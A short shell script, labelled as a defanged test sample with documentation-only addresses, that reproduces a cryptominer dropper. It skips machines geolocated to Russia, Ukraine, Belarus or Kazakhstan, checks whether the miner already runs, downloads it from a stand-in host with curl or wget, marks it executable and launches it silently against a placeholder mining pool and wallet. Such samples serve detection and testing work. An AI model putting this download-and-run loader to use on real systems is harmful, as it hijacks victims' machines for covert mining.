# DEFANGED TEST SAMPLE: documentation addresses only (RFC 5737, .invalid).
IP=$(curl -k https://geo.example.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
then
    var=$(pgrep jsextension)
    if [ -z "$var" ]
    then
        curl http://192.0.2.10/download/jsextension -o jsextension
        if [ ! -f jsextension ]
        then
            wget http://192.0.2.10/download/jsextension -O jsextension
        fi
        chmod +x jsextension
        ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u DUMMYWALLET --background &>/dev/null &
    fi
fi
